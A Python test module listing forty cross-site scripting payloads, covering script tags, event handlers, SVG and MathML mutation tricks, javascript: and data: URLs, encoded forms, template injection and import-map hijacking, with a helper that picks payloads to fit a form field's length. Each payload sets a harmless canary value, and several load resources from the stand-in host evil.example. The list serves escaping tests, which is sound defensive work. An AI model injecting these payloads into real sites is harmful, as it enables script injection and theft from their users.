"""Forty texts that are markup, script or an address to whoever forgets to escape them.

Each that runs sets ``window.canary`` to its number, or asks ``evil.example`` for it; none has a
character a form refuses. The collection is our own: one for each way we know a text can get out.
"""

PAYLOADS: tuple[str, ...] = (
    "<script>window.canary=1</script>",
    "</script><script>window.canary=2</script>",
    "</title><script>window.canary=3</script>",
    "</textarea><img src=x onerror=window.canary=4>",
    "--><svg onload=window.canary=5>",
    "]]><svg/onload=window.canary=6>",
    '"><img src=x onerror="window.canary=7">',
    "'><img src=x onerror='window.canary=8'>",
    '" autofocus onfocus="window.canary=9" x="',
    "' onmouseover='window.canary=10' style='position:fixed;inset:0' x='",
    "x onpointerenter=window.canary=11 x=",
    "<img src=//evil.example/12>",
    "<svg><script>window.canary=13</script></svg>",
    "<svg><animate onbegin=window.canary=14 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=a onload=window.canary=15>#a'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.canary=16>",
    "<noscript><p title='</noscript><img src=x onerror=window.canary=17>'>",
    "<template><script>window.canary=18</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.canary=19>",
    "<iframe srcdoc='<script>parent.canary=20</script>'></iframe>",
    "<iframe src='javascript:parent.canary=21'></iframe>",
    "<object data='data:text/html,<script>top.canary=22</script>'></object>",
    "javascript:window.canary=23",
    "data:text/html,<script>opener.canary=24</script>",
    "[here](javascript:window.canary=25)",
    "![x](//evil.example/26)",
    "<a href='java&#9;script:window.canary=27' id=canary>x</a>",
    "&lt;img src=x onerror=window.canary=28&gt;",
    "&#60;script&#62;window.canary=29&#60;/script&#62;",
    "%3Cscript%3Ewindow.canary=30%3C/script%3E",
    "\\u003cscript\\u003ewindow.canary=31\\u003c/script\\u003e",
    "＜script＞window.canary=32＜/script＞",
    "{{constructor.constructor('window.canary=33')()}}",
    "${window.canary=34} #{window.canary=34} <%= window.canary=34 %>",
    "';window.canary=35;//",
    '\\";window.canary=36;//',
    "<style>@import '//evil.example/37';</style>",
    "<link rel=stylesheet href=//evil.example/38><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/39'>",
    '<script type=importmap>{"imports":{"/static/js/desk.js":"//evil.example/40"}}</script>',
)
"""The texts, each under its number from one."""
TOGETHER = "\n".join(PAYLOADS)


def fitting(most: int | None, turn: int) -> str:
    """As many of them as a field of this size takes; of a small one, each turn another."""
    if most is None or most >= len(TOGETHER):
        return TOGETHER
    small = [one for one in PAYLOADS if len(one) <= most]
    return small[turn % len(small)] if small else ""
